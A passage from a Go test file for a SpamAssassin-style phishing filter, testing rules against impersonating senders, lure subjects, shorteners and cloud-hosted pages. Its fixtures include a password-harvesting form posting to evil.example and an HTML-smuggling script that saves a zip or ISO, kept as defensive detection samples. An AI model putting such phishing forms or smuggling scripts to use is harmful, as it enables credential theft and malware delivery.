		{"=?UTF-8?B?" + base64.StdEncoding.EncodeToString([]byte("Lеԁgеr")) + "?= <jennifer@shalinimisra.com>", true},
		{"=?UTF-8?B?" + base64.StdEncoding.EncodeToString([]byte(" Co\U000E0139\U000E0139in\U000E0139base Serv\U000E0139ices ")) + "?= <xw@panfluterivera.com>", true},
		{"=?UTF-8?B?" + base64.StdEncoding.EncodeToString([]byte("Pay\u200bPal")) + "?= <service@paypal-secure-login.com>", true},
		{"=?UTF-8?B?" + base64.StdEncoding.EncodeToString([]byte("ＰａｙＰａｌ")) + "?= <service@paypal-secure-login.com>", true},
		{"=?UTF-8?B?" + base64.StdEncoding.EncodeToString([]byte("Lеԁgеr")) + "?= <hello@ledger.com>", false},
		{"=?utf-8?Q?Ledger_Live=E2=84=A2_?=<support@ledgerliveupdate.com>", true}, // ™ is no "TM"
		{"=?UTF-8?B?" + base64.StdEncoding.EncodeToString([]byte("Тr\ufeffuѕt\u2005\u200bWаllеt")) + "?= <zebasbaa-gmail.com@shared1.ccsend.com>", true},
		{"=?UTF-8?B?" + base64.StdEncoding.EncodeToString([]byte("Леонид Петров")) + "?= <leonid@example.ru>", false},
		{`"AAA Member Perks, Benefits" <AAA@rewardsbyqoz.example>`, true},
		{`"UnitedHeaIthcare" <uhc@redeem-uhc.example>`, true},
		{`State Farm Auto Rewards <gvj@promo.example>`, true},
		{`AAA Carolinas <news@aaacarolinas.com>`, false},
		{`UnitedHealthcare <noreply@uhc.com>`, false},
		{`Aaa Batteries Direct <sales@batteries.example>`, false},
		{`AAA Plumbing & Heating <office@aaaplumbing-co.example>`, false},
		{`AAA <NEW_OFFRE_1_14118@hinata.example>`, true},
		{`AAA Discounts & Rewards <mll@AAA4f6up.example>`, true},
		{`Progressive Rock Weekly <news@prog.example>`, false},
		{`Illuvium <do-not-reply@bling.example>`, true},
		{`Lido Finance <noprely@lido.example>`, true},
		{`Pyth Network <news@pyth.network>`, false},
		{`Lido Beach Restaurant <news@lidobeach.example>`, false},
		{`Manta Ray Dive Club <club@manta.example>`, false},
		{`"lRS.GOV" <donotreply.47798@a1.pizza.example>`, true},
		{`"SSADocument_noreply." <offer@qp-mail.example>`, true},
		{`"U.S. Federal Court System" <survey@qp-mail.example>`, true},
		{`IRS <news@irs.gov>`, false},
		{`HMRC <noreply@notifications.service.gov.uk>`, false},
		{`Maria Irs <maria.irs@example.com>`, false},
		{`SSAB Steel <news@ssab.example>`, false},
		{`Conseiller CPF France <s731953@charterschools.example>`, true},
		{`Centre National CPF <9936107602@cbrc.example>`, true},
		{`ANCV Dossier <mzuwh@donif.getnudged.example>`, true},
		{`Service Public FR <info@plateforme-habitat.example>`, true},
		{`Assurance Maladie <ne-pas-repondre@assurance-maladie.example>`, true},
		{`Assurance Maladie <ne-pas-repondre@info.ameli.fr>`, false},
		{`Mon compte CPF <contact@moncompteformation.gouv.fr>`, false},
		{`Consulta CPF <atendimento@serasa.example>`, false},
		{`Mairie de Lyon, service public local <contact@mairie-lyon.example>`, false},
		{`"Eco Savings  by Elon Musk" <hanniechouteau@brandkeyconcept.example>`, true},
		{`"Elon's Green Blueprint" <kumbacampha@back-pain-treatments.example>`, true},
		{"=?UTF-8?Q?Elon=E2=80=99s_Stromrechnung_Einsparungen?= <lina_29352@offers.example>", true},
		{`Elon Musk <elon@tesla.com>`, false},
		{`"Elon's Office of Admissions" <admissions@elon.edu>`, false},
		{`Elon University Alumni <alumni@news.elon.example>`, false},
		{`White Musk Perfumes <shop@musk.example>`, false},
	})
}

// PST_BRAND_SECURITY_DIRECT: the borrowed security notice without a
// List-Unsubscribe header; a newsletter that names the brand has one.
func TestDefaultBrandSecurityDirect(t *testing.T) {
	msg := func(t *testing.T, head string) *filter.Message {
		return msgOf(t, head+"To: user@example.com\nMessage-ID: <1@x.example>\nContent-Type: text/plain\n\nHello.\n")
	}
	ruleCases(t, "PST_BRAND_SECURITY_DIRECT", msg, []ruleCase{
		{"From: Ledger <noreply@seglan.com>\nSubject: Security Notice\n", true},
		// Bulk mail: a newsletter that names the brand.
		{"From: Ledger <noreply@seglan.com>\nSubject: Security Notice\nList-Unsubscribe: <mailto:u@seglan.com>\n", false},
		// The brand's own notice; a borrowed name on no security notice.
		{"From: Ledger <noreply@ledger.com>\nSubject: Security Notice\n", false},
		{"From: Ledger <noreply@seglan.com>\nSubject: Our new colours\n", false},
	})
}

func TestDefaultBrandSecurity(t *testing.T) {
	plainCases(t, "PST_BRAND_SECURITY", []plainCase{
		{from: `Ledger <noreply@seglan.com>`, subject: "Security Notice \u2013 Recent Data Exposure", hit: true},
		{from: `MetaMask <no-reply@service.hey-alex.com>`, subject: "[Alert] Your Wallet access is temporarily Suspended", hit: true},
		{from: `"Microsoft account team" <no-reply@access-accsecurity.com>`, subject: "Microsoft account unusual sign-in activity", hit: true},
		{from: `Mercado Pago <mercadopago@atendimento.example>`, subject: "Detectamos um novo acesso a sua conta", hit: true},
		{from: `PayPal <service@paypal-konto.info>`, subject: "Ihr Konto wurde gesperrt", hit: true},
		{from: `Amazon <service@amz-client.example>`, subject: "V\u00e9rification de votre compte requise", hit: true},
		{from: `Binance <no-reply@binance-soporte.example>`, subject: "Verificaci\u00f3n de seguridad", hit: true},
		{from: `Ledger Finance <no-reply@notification.circle.so>`, subject: "Action Required : Two-factor authentication (2FA)", hit: true},
		// Suspicious activity, and an account to unlock, in the phishing's languages.
		{from: `Banco Do Brasil <notifica@bancodobrasil.com.br>`, subject: "Rodrigo F P, voc\u00ea recebeu uma transa\u00e7\u00e3o suspeita.", hit: true},
		{from: `Banco Do Brasil <notifica@bancodobrasil.com.br>`, subject: "Rodrigo F P, desbloqueie sua conta BB.", hit: true},
		{from: `PayPal <service@paypal-hilfe.example>`, subject: "Verd\u00e4chtige Aktivit\u00e4t in Ihrem Konto", hit: true},
		{from: `Amazon <service@amz-client.example>`, subject: "Activit\u00e9 suspecte d\u00e9tect\u00e9e sur votre compte", hit: true},
		{from: `Binance <no-reply@binance-soporte.example>`, subject: "Actividad sospechosa en tu cuenta", hit: true},
		// The lure in the body instead.
		{from: `Kraken <info@zedproductions.ca>`, subject: "Important notice", body: "Please verify your account within 24 hours.", hit: true},
		// The brand's own notice; a security notice in no brand's name; a
		// brand's name on another lure; a word that holds one of the words.
		{from: `Microsoft account team <account-security-noreply@accountprotection.microsoft.com>`, subject: "Microsoft account unusual sign-in activity"},
		{from: `Debian Security <security@debian.org>`, subject: "[SECURITY] [DSA 5500-1] openssl security update"},
		{from: `Banco do Brasil <comunicado@bb.com.br>`, subject: "Desbloqueie seu cart\u00e3o pelo app"},
		{from: `Amazon <service@amz-client.example>`, subject: "Suspected parcel delay"},
		{from: `"Amazon Gutschein" <service@stayfriends.de>`, subject: "Ihr Gutschein wartet"},
		{from: `Ripple <xrp@dmi-ida.org>`, subject: "First batch of XRP ready for claiming"},
		{from: `Walmart <offer@b3ila3.aboutline.beauty>`, subject: "Your unlocked reward is waiting"},
		// An alert that is no security notice, from a service naming a brand.
		{from: `Amazon Price Tracker <alerts@pricetracker.example>`, subject: "Price drop alert: Kindle Paperwhite"},
	})
}

// defaultSet is the default rules, which load without a problem.
func defaultSet(t *testing.T) *Set {
	t.Helper()
	s, problems := Load(DefaultPath)
	if len(problems) > 0 {
		t.Fatal(problems)
	}
	return s
}

// plainMsg is a plain-text message from from, with subject and body: what
// the default rules' tests vary.
func plainMsg(t *testing.T, from, subject, body string) *filter.Message {
	t.Helper()
	return msgOf(t, "From: "+from+"\nTo: user@example.com\nSubject: "+subject+"\nMessage-ID: <1@x.example>\nContent-Type: text/plain; charset=utf-8\n\n"+body+"\n")
}

// A ruleCase is an input of a default rule's test, and whether the rule
// should hit the message made of it.
type ruleCase struct {
	in  string
	hit bool
}

// ruleCases checks rule against the message build makes of each case's input.
func ruleCases(t *testing.T, rule string, build func(*testing.T, string) *filter.Message, cases []ruleCase) {
	t.Helper()
	s := defaultSet(t)
	for _, tc := range cases {
		t.Run(tc.in, func(t *testing.T) { wantHit(t, s, build(t, tc.in), rule, tc.hit) })
	}
}

// A plainCase is a plainMsg's from, subject and body ("a@example.com",
// "notice" and "Hello." where left empty), and whether the rule should hit it.
type plainCase struct {
	from, subject, body string
	hit                 bool
}

// plainCases checks rule against each case's plainMsg, a subtest named by its
// subject.
func plainCases(t *testing.T, rule string, cases []plainCase) {
	t.Helper()
	s := defaultSet(t)
	for _, tc := range cases {
		from, subject, body := cmp.Or(tc.from, "a@example.com"), cmp.Or(tc.subject, "notice"), cmp.Or(tc.body, "Hello.")
		t.Run(subject, func(t *testing.T) { wantHit(t, s, plainMsg(t, from, subject, body), rule, tc.hit) })
	}
}

// The messages the default rules' tests vary one part of.
func fromMsg(t *testing.T, from string) *filter.Message { return plainMsg(t, from, "notice", "Hello.") }
func bodyMsg(t *testing.T, body string) *filter.Message {
	return plainMsg(t, "a@example.com", "notice", body)
}
func subjectMsg(t *testing.T, subject string) *filter.Message {
	return plainMsg(t, "a@example.com", subject, "Hello.")
}
func htmlMsg(t *testing.T, html string) *filter.Message {
	return msgOf(t, "From: a@example.com\nTo: user@example.com\nSubject: notice\nMessage-ID: <1@x.example>\nContent-Type: text/html; charset=utf-8\n\n"+html+"\n")
}
func linkMsg(t *testing.T, link string) *filter.Message {
	return htmlMsg(t, "<p><a href=\""+link+"\">Sign in</a></p>")
}

// wantHit fails t unless rule's hitting m is want.
func wantHit(t *testing.T, s *Set, m *filter.Message, rule string, want bool) {
	t.Helper()
	if got := slices.Contains(hitNames(t, s, m), rule); got != want {
		t.Errorf("%s %v, want %v", rule, got, want)
	}
}

// PST_BULK_FORM: a mailing with removal instructions and three or more form
// lines left blank for the reader's details, not on a list (List-Id).
func TestDefaultBulkForm(t *testing.T) {
	const form = "Please fill out the form below for more information\n\nName:\t \t  \nE-mail:\t \t \nPhone: ________\nCity:\t \t\n"
	const removal = "\nTo be removed from this mailing list, go to http://www.example.com/optout\n"
	cases := []struct {
		name, header, body string
		hit                bool
	}{
		{"a lead form and removal instructions", "", form + removal, true},
		{"numbered fields and a fax number to send them to", "", "Fax back to 800-555-0100:\n1. Your full name: ____\n2. Company name: ____\n3. Fax number: ____\n" + removal, true},
		{"the same on a list", "List-Id: <agents.lists.example.com>\n", form + removal, false},
		{"a form and no removal instructions", "", form, false},
		{"two fields only", "", "Name: ____\nPhone: ____\n" + removal, false},
		{"fields filled in, as a signature or a record", "", "Name: Jane Doe\nE-mail: jane@example.com\nPhone: 555-0100\nCity: Springfield\n" + removal, false},
	}
	s := defaultSet(t)
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			m := msgOf(t, "From: Agents <offers@marketer.example>\nTo: user@example.com\nSubject: Annuity bonuses\nMessage-ID: <1@x.example>\n"+tc.header+"Content-Type: text/plain; charset=utf-8\n\n"+tc.body)
			wantHit(t, s, m, "PST_BULK_FORM", tc.hit)
		})
	}
}

// PST_FROM_NO_DOMAIN: a From whose domain no reply can reach, in the forms
// phishing writes it, against the domains mail is sent from.
func TestDefaultFromNoDomain(t *testing.T) {
	ruleCases(t, "PST_FROM_NO_DOMAIN", fromMsg, []ruleCase{
		{`Correios <noreply@correios>`, true},
		{`=?utf-8?q?Pedagio_Digital?= <debito@pedagiodigital225876>`, true},
		{`Correios <envio-taxado@alfandega.com.br-correios>`, true},
		{`Your Team <noreply@newsletter,example,com>`, true},
		{`"Gewinner Team "<team@{nutella.de}>`, true},
		{`"Dein Geschenk" <no-reply@𝗞𝗶𝗻𝗱𝗲𝗿.de>`, true},
		{`Cloud <🅐🅟🅟🅛🅔@𝐢𝐝.𝐚𝐩𝐩𝐥𝐞.🅒🅞🅜>`, true},
		{`Shop <info@ｓｈｏｐ.com>`, true},
		{`Someone <someone@[192.0.2.1]>`, true},
		{`"iCloud" <"noreply@icloud.nl">`, true},
		{`Registry <hostmaster@co.uk>`, true},
		{`Bad <a@-bad.example.com>`, true},
		{`Bad <a@bad..com>`, true},
		{`Amazon.de <versandbestaetigung@amazon.de>`, false},
		{`Jane <jane@mail.example.co.uk>`, false},
		{`Ville <ville@iki.fi>`, false},
		{`<"Books@Books"@publishing.example.com>`, false},
		{`"a\"@b" <"a\"@b"@example.org>`, false},
		{`Blog <me@myblog.blogspot.com>`, false},
		{`TLD <a@com>`, true},
		{`Root <root@server.corp.local>`, false},
		{`Cron <cron@build.internal>`, false},
		{`Müller <info@müller.de>`, false},
		{`Почта <info@почта.рф>`, false},
		{`Trailing <a@example.org.>`, false},
		{`Under <a@mail_out.example.net>`, false},
		{`no address at all`, false},
		{`jane@example.com (Jane Doe)`, false},
		{`Jane <jane@example.com>, Bob <bob@example.net>`, false},
		{`=?utf-8?q?Smith=2C_John?= <john@example.com>`, false},
		{`"Shop", "Shop", <newsletter@news.example.de>`, false},
	})
}

// PST_PASSWORD_FIELD: a login page in the message's HTML or in an attached web
// page, whatever type the attachment declares; not a word about passwords.
func TestDefaultPasswordField(t *testing.T) {
	s := defaultSet(t)
	page := `<html><body><form action="https://evil.example/p.php" method="post">Email <input name="e" value="you@example.com">` +
		`Password <INPUT name="p" TYPE='Password' required></form></body></html>`
	b64 := base64.StdEncoding.EncodeToString([]byte(page))
	head := "From: Billing <billing@example.com>\nTo: user@example.com\nSubject: remittance\nMessage-ID: <1@x.example>\nMIME-Version: 1.0\n"
	for _, tc := range []struct {
		name, raw string
		hit       bool
	}{
		{"in the message", head + "Content-Type: text/html\n\n" + page + "\n", true},
		{"in an attached page", head + "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nSee the attached remittance.\n" +
			"--b\nContent-Type: application/octet-stream; name=\"Remittance.html\"\nContent-Disposition: attachment; filename=\"Remittance.html\"\n" +
			"Content-Transfer-Encoding: base64\n\n" + b64 + "\n--b--\n", true},
		{"words about a password", head + "Content-Type: text/html\n\n<p>Your password was changed. <a href=\"https://example.com/\">Sign in</a></p>\n", false},
		{"another field", head + "Content-Type: text/html\n\n<form><input type=\"text\" name=\"password_hint\"></form>\n", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			wantHit(t, s, msgOf(t, tc.raw), "PST_PASSWORD_FIELD", tc.hit)
		})
	}
}

// PST_FORM_TO_IP: a form whose action is a bare IP address, with or without a
// scheme or a port; not a form posting to a name, nor a link to an address.
func TestDefaultFormToIP(t *testing.T) {
	ruleCases(t, "PST_FORM_TO_IP", htmlMsg, []ruleCase{
		{`<form method="post" action="http://65.217.159.103/response/response.asp">Name: <input type="text" name="n"></form>`, true},
		{`<FORM ACTION='https://192.0.2.7:8443/login' METHOD=POST><input type=password name=p></FORM>`, true},
		{`<form id="f" action=//198.51.100.2/p.php><input name=e></form>`, true},
		{`<form action="http://203.0.113.9"><input name=q></form>`, true},
		{`<form method="post" action="http://www.lockergnome.com/cgi-bin/htsearch"><input type="text" name="w"></form>`, false},
		{`<form action="https://192.0.2.7.example.com/x"><input name=q></form>`, false},
		{`<form action="http://1.2.3.4a.example/x"><input name=q></form>`, false},
		{`<p><a href="http://65.217.159.103/offer">Apply</a></p>`, false},
		{`<p>Post your form to http://192.0.2.1/ for a test.</p>`, false},
	})
}

// PST_HTML_SMUGGLING: an attached page whose script builds a file and saves
// it; a page that only makes a Blob, or only links one, is not.
func TestDefaultHTMLSmuggling(t *testing.T) {
	s := defaultSet(t)
	attached := func(script string) string {
		page := "<html><body><script>" + script + "</script></body></html>"
		return "From: a@example.com\nTo: user@example.com\nSubject: invoice\nMessage-ID: <1@x.example>\nMIME-Version: 1.0\n" +
			"Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nYour invoice.\n" +
			"--b\nContent-Type: application/octet-stream; name=\"Invoice.html\"\nContent-Transfer-Encoding: base64\n\n" +
			base64.StdEncoding.EncodeToString([]byte(page)) + "\n--b--\n"
	}
	for _, tc := range []struct {
		name, script string
		hit          bool
	}{
		{"saved by a link", `var d=atob("UEsDBA=="),u=new Uint8Array(d.length);var b = new Blob([u],{type:"application/zip"});var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="Invoice.zip";a.click();`, true},
		{"saved by msSaveOrOpenBlob", `var b=new Blob([x]);window.navigator.msSaveOrOpenBlob(b,"Invoice.iso");`, true},
		{"a Blob alone", `var b = new Blob(["text"]);`, false},
		{"a link alone", `img.src = URL.createObjectURL(file);`, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			wantHit(t, s, msgOf(t, attached(tc.script)), "PST_HTML_SMUGGLING", tc.hit)
		})
	}
}

// PST_IMG_FREE_HOST: an image shown from a free image host, not a link to one
// nor an image from a sender's own site.
func TestDefaultImageHost(t *testing.T) {
	ruleCases(t, "PST_IMG_FREE_HOST", htmlMsg, []ruleCase{
		{`<img src="https://i.imgur.com/AbCd123.png" width="600">`, true},
		{`<IMG alt="" SRC='http://www.zupimages.net/up/24/07/x.jpg'>`, true},
		{`<img border=0 src=https://images2.imgbox.com/1a/2b/x_o.png>`, true},
		{`<a href="https://imgur.com/gallery/AbCd123">my holiday photos</a>`, false},
		{`<img src="https://cdn.example.com/logo.png">`, false},
		{`<img src="https://notimgur.com/a.png">`, false},
	})
}

// PST_MERGE_FIELD_LEFT: a mail-merge field sent unfilled, in the HTML (a
// title, a link, the text) or in the Subject; template syntax in a build
// recipe, or a word in brackets, is not.
func TestDefaultMergeFieldLeft(t *testing.T) {
	s := defaultSet(t)
	html := func(body string) string {
		return "From: a@example.com\nTo: user@example.com\nSubject: notice\nMessage-ID: <1@x.example>\nContent-Type: text/html; charset=utf-8\n\n" + body + "\n"
	}
	plain := func(subject, body string) string {
		return "From: a@example.com\nTo: user@example.com\nSubject: " + subject + "\nMessage-ID: <1@x.example>\nContent-Type: text/plain; charset=utf-8\n\n" + body + "\n"
	}
	for _, tc := range []struct {
		name, raw string
		hit       bool
	}{
		{"Mailchimp's subject tag in the title", html("<html><head><title>*|MC:SUBJECT|*</title></head><body><p>Hello</p></body></html>"), true},
		{"an unsubscribe tag as a link", html(`<p><a href="*|UNSUB|*">Unsubscribe</a></p>`), true},
		{"[username] in the text", html("<h1>[username], Claim Your Health Kit Today</h1>"), true},
		{"{{Firstname}} in plain text", plain("notice", "2. {{Firstname}} {{Lastname}}"), true},
		{"%EMAIL% in a link", html(`<a href="https://example.net/a.php?hash=%EMAIL%">here</a>`), true},
		{"{firstname} in the Subject", plain("RE:iPhone 13 Pro für {firstname}", "Hello."), true},
		{"an RPM spec's macros", plain("spec file", "Source0: %{name}-%{version}.tar.gz\n%configure --sysconfdir=%{_sysconfdir}/%{name}"), false},
		{"a shell variable", plain("script", `echo "Hello ${firstname}"`), false},
		{"a placeholder in an address", plain("access", "Log in with ssh [username]@build.example.com or map \\\\files\\home\\[username]\\docs."), false},
		{"a name in brackets", plain("notice", "Dear [redacted], the minutes are attached."), false},
		{"a filled-in greeting", html("<p>Hello Anna,</p>"), false},
	} {
		t.Run(tc.name, func(t *testing.T) { wantHit(t, s, msgOf(t, tc.raw), "PST_MERGE_FIELD_LEFT", tc.hit) })
	}
}

// PST_URI_SHORTENER: a link through a public URL shortener; a site whose name
// merely starts or ends like one is not.
func TestDefaultShortener(t *testing.T) {
	ruleCases(t, "PST_URI_SHORTENER", linkMsg, []ruleCase{
		{"https://bit.ly/3uW44X4", true},
		{"http://tinyurl.com/y5abc", true},
		{"https://rb.gy/abc12", true},
		{"https://cutt.ly/xYz", true},
		{"https://shorturl.at/bcDE1", true},
		{"https://t.ly/AbCd", true},
		{"https://s.id/1a2b", true},
		{"https://urlz.fr/kP3q", true},
		{"https://clck.ru/3AbCd", true},
		{"https://rebrand.ly/offer", true},
		{"https://www.bit.ly.example.com/x", false},
		{"https://notbit.ly/x", false},
		{"https://example.com/t.ly/x", false},
		{"https://www.example.com/", false},
	})
}

// PST_URI_CLOUD_PAGE: a link to a web page in a storage bucket, or to an
// Azure storage account's website, not to an image there nor to a page on a
// site.
func TestDefaultCloudPage(t *testing.T) {
	ruleCases(t, "PST_URI_CLOUD_PAGE", linkMsg, []ruleCase{
		{"https://storage.googleapis.com/koin/topmarktingplace.html#4bMJFm34010", true},
		{"https://firebasestorage.googleapis.com/v0/b/x/o/login.htm?alt=media", true},
		{"https://invoices-2026.s3.us-east-1.amazonaws.com/view/index.html", true},
		{"https://s3-us-west-2.amazonaws.com/bucket/secure.shtml", true},
		{"https://s3.amazonaws.com/bucket/Doc.HTML", true},
		{"https://acct1.blob.core.windows.net/$web/index.html", true},
		{"https://pub-1a2b3c.r2.dev/o365.html", true},
		{"https://files.nyc3.digitaloceanspaces.com/a/b.html", true},
		{"https://storage.googleapis.com/news-assets/logo.png", false},
		{"https://mybucket.s3.amazonaws.com/report.pdf", false},
		{"https://www.example.com/newsletter/2026-12.html", false},
		{"https://storage.googleapis.com/bucket/page.html.png", false},
		{"https://iasjdisdji.z13.web.core.windows.net/", true},
		{"https://suportebbcard1.z21.web.core.windows.net/?id=1", true},
		{"https://acct.z6.web.core.windows.net", true},
		{"https://www.example.com/z13.web.core.windows.net/", false},
		{"https://web.core.windows.net.example.com/", false},
	})
}

// Debian's stock SpamAssassin rules load without errors (CI installs spamassassin for
// its rule files); unsupported rules are warnings.
func TestStockSpamAssassinRules(t *testing.T) {
	const stock = "/usr/share/spamassassin"
	if _, err := os.Stat(stock); err != nil {
		if os.Getenv("CI") != "" {
			t.Fatal("CI must install spamassassin for its rule files")
		}
		t.Skip("no stock SpamAssassin rules (apt-get install spamassassin)")
	}
	s, problems := Load(stock)
	if errs := Errors(problems); len(errs) > 0 {
		t.Fatalf("%d errors, first: %v", len(errs), errs[0])
	}
	if s.Stats.Loaded[Body] < 300 || s.Stats.Loaded[Header] < 300 || s.Stats.Loaded[Meta] < 200 {
		t.Errorf("few rules loaded: %+v", s.Stats.Loaded)
	}
	t.Logf("loaded %v, skipped %v", s.Stats.Loaded, s.Stats.Skipped)
	hits := hitNames(t, s, msgOf(t, sample))
	if len(hits) == 0 {
		t.Error("no stock rule hits the phishing sample")
	}
}

func FuzzPerlRegex(f *testing.F) {
	for _, s := range []string{`/a\b/i`, `m{x(?=y)}`, `/[[:alpha:]]\x4/x`, `/(?<n>a)\1/`, `/a++\Z/`, `/[]/`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		re, _, err := perlRegex(s)
		if err == nil && re == nil {
			t.Fatal("nil regex without error")
		}
	})
}

func FuzzParse(f *testing.F) {
	f.Add("body A /x/\nscore A 1\nmeta B A && !A\nifplugin X\nendif\n")
	f.Add("header H Subject =~ /x/ [if-unset: y]\nheader E exists:To\nif (version > 3)\nelse\nendif")
	// Rules whose arguments are parsed by their evals, and the other kinds:
	// the fuzzer reaches their parsers from these.
	f.Add("body A eval:html_range('a', 'b', 'c')\nheader B eval:check_header_count_range('To', 'x', 2)\n" +
		"body C eval:check_for_shifted_date('-6', 'undef')\nbody D eval:html_text_match('title', '/x/')\n" +
		"rawbody E eval:check_body_length('1')\nbody F eval:html_image_ratio('0.1', 'x')\n" +
		"header G eval:check_abundant_unicode_ratio('0.2')\nbody H eval:check_from_in_list('x')\n")
	f.Add("body A /a/\ntflags A multiple maxhits=0\nmimeheader B Content-Type =~ /html/\nuri C /\\.ly/\n" +
		"full D /^To:/m\nmeta E (A + B > 1) && C\nscore E 1 2 3 4\ndescribe E x\nheader F ToCc:addr =~ /b/")
	f.Fuzz(func(t *testing.T, content string) {
		dir := t.TempDir()
		os.WriteFile(filepath.Join(dir, "f.cf"), []byte(content), 0o644)
		s, _ := Load(filepath.Join(dir, "f.cf"))
		s.Eval(msgOf(t, "Subject: x\n\nbody\n"))
		s.Eval(msgOf(t, sample))
	})
}

// Whatever the message, evaluating rules never panics.
func FuzzEval(f *testing.F) {
	f.Add("Subject: x\n\nhttp://\xc4\xb0\xc4\xb0\xc4\xb0 www.x")
	f.Add("Content-Type: text/html\n\n<a href=HTTP://\xe2\x84\xaaK>x</a>")
	f.Add("From: \"Audien Atom 2\" <Hartness_Lacy_95443@x.example>\nSubject: x\n\nScan your Ledger now")
	f.Add("From: \"Energieadviseur\"  .NTWQ  <newsletters.mYLY@x.example>\nSubject: y.NTWQ\n\nb")
	f.Add("From: \"Your Order #865999\" <x@gmail.com>\nContent-Type: text/html\n\n<style>.b { margin-top: 470500.5px }</style><p>x</p>")
	s, _ := Load(DefaultPath)
	f.Fuzz(func(t *testing.T, raw string) {
		s.Eval(msgOf(t, raw))
	})
}

// FuzzEvalStock is FuzzEval with SpamAssassin's stock rules, whose eval tests
// (HTML, MIME, relays, dates, images, headers) read much more of a message than
// the built-in rules do.
//
// Run it with -fuzzminimizetime 10x: in thousands of rules nearly every input
// reaches code no input did before, and Go minimizes each such input for up to
// a minute by default, so the fuzzer did little else. Fifty-seventh session:
//
//	go test ./rules -run '^$' -fuzz '^FuzzEvalStock$' -fuzztime 40s -parallel 1
//	    5 inputs
//	go test ./rules -run '^$' -fuzz '^FuzzEvalStock$' -fuzztime 300s -fuzzminimizetime 10x
//	    726,549 inputs (two workers), no failure
//
// Fifty-eighth session, with the seed of a long field, raw values and UTF-7:
//
//	go test ./rules -run '^$' -fuzz '^FuzzEvalStock$' -fuzztime 150s -fuzzminimizetime 10x
//	    428,509 inputs, no failure
func FuzzEvalStock(f *testing.F) {
	f.Add(sample)
	f.Add("Received: from a (b [1.2.3.4]) by c with SMTP id d; Mon, 1 Jun 2026 10:00:00 +0000\n" +
		"Received: from [::1] (helo=x) by y; 31 Feb 1999 25:61:61 -9999\nDate: Tue, 99 Foo 20000 00:00\n" +
		"From: =?utf-8?b?w6k=?= <a@[1.2.3.4]>\nTo: undisclosed-recipients:;\nMessage-Id: <$$@>\n" +
		"Content-Type: multipart/mixed; boundary=\"b\"\n\n--b\nContent-Type: message/rfc822\n\n" +
		"Subject: inner\nContent-Type: text/html; charset=\"x-unknown\"\nContent-Transfer-Encoding: quoted-printable\n\n" +
		"<img src=3D\"cid:a\" width=3D\"-1\" height=3D99999999999><font color=3D#fff size=3D-9>x=\n\n" +
		"--b\nContent-Type: image/gif; name=a.gif\nContent-Transfer-Encoding: base64\n\nR0lGODlhAQABAAAAACw=\n" +
		"--b\nContent-Type: application/pdf\nContent-Transfer-Encoding: base64\n\nJVBERi0xLjQK\n--b--\n")
	// A field over 8 KB (cutLongFields), raw values with folds and tabs
	// (rawValue), a MESSAGEID of several fields, and a part in UTF-7.
	f.Add("Date:\tMon, 7 Dec 2026 10:00:00 +0000\nTo: a@x.example,\n " + strings.Repeat("\u00e9b@y.example, ", 600) +
		"\nResent-Message-Id: <2@x>\nMessage-Id: <1@x>\nX-Sender: @ (Unverified)\nReturn-Path: yyyy\n" +
		"Content-Type: text/html; charset=utf-7\n\n+ADw-a href+AD0AIg-http://x.example/+ACIAPg-a@b@c.example+ADw-/a+AD4- +2D0-\n")
	s := stockRules(f, false)
	f.Fuzz(func(t *testing.T, raw string) {
		s.Eval(msgOf(t, raw))
	})
}

// A scheme's missing slashes are added, and a redirector's target is found in
// any case of its scheme.
func TestCanonicalURIs(t *testing.T) {
	got := strings.Join(canonicalURIs([]string{"http:x.example/a", "http:/y.example/", "https://r.example/?go=HTTPS://t.example/z"}), " ")
	want := "http:x.example/a http:/y.example/ https://r.example/?go=HTTPS://t.example/z http://x.example/a http://y.example/ HTTPS://t.example/z"
	if got != want {
		t.Errorf("%s\nwant %s", got, want)
	}
}

// Each link's forms as SpamAssassin 4's uri_list_canonicalize gives them
// (perl -MMail::SpamAssassin::Util, sorted): printable escapes decoded and
// other bytes kept or made escapes (url_encode), the scheme's own port
// dropped, spaces dropped from a host, a slash put before a bare host's ? or
// #, entities decoded, a mail link's address alone, ftp. given ftp://, a
// single label's www.label.com. Each want is what Util::uri_list_canonicalize
// gives (with SpamAssassin's registry boundaries, as get_uri_list calls it).
func TestCanonicalURIsAsSpamAssassin(t *testing.T) {
	for _, c := range []struct {
		in   string
		want []string
	}{
		{"http://a.example/x%20y%41%7e%2F%7F%C3%A9", []string{"http://a.example/x%20y%41%7e%2F%7F%C3%A9", "http://a.example/x%20yA~/%7F%C3%A9"}},
		{"http://a.example/sp ace%41", []string{"http://a.example/sp ace%41", "http://a.example/sp%20aceA"}},
		{"http://a.example:80/p", []string{"http://a.example/p", "http://a.example:80/p"}},
		{"https://a.example:443/p", []string{"https://a.example/p", "https://a.example:443/p"}},
		{"http://a.example:8080/p", []string{"http://a.example:8080/p"}},
		{"http://a.example:80x/p", []string{"http://a.example:80x/p"}},
		{"http://a .example/p", []string{"http://a .example/p", "http://a.example/p"}},
		{"http://a.example?q=1", []string{"http://a.example/?q=1", "http://a.example?q=1"}},
		{"https://a.example#f", []string{"https://a.example#f", "https://a.example/#f"}},
		{"mailto:jo@x.example&cc=z", []string{"mailto:jo@x.example", "mailto:jo@x.example&cc=z"}},
		{"mailto:%20%20jo@x.example", []string{"mailto:%20%20jo@x.example", "mailto:jo@x.example"}},
		{`mailto:"Jo%20X"%20<jo@x.example>`, []string{`mailto:"Jo%20X"%20<jo@x.example>`, "mailto:jo@x.example"}},
		{"jo@x.example?subject=hi", []string{"jo@x.example", "jo@x.example?subject=hi"}},
		{"ftp.files.example/x", []string{"ftp.files.example/x", "ftp://ftp.files.example/x"}},
		{"FTP.files.example/x", []string{"FTP.files.example/x", "http://FTP.files.example/x"}},
		{"javascript:alert%28%29", []string{"javascript:alert%28%29", "javascript:alert()"}},
		// A form is not canonicalized again: http://foobar/ is no second www.foobar.com.
		{"http://foobar:80/", []string{"http://foobar/", "http://foobar:80/", "http://www.foobar.com:80/"}},
		{"http://x.example.com/?f=%2523", []string{"http://x.example.com/?f=%23", "http://x.example.com/?f=%2523"}},
		// www.label.com is made of the host as written, lower-cased, before its
		// end is trimmed; a host that is no valid domain ("www.label") gets one
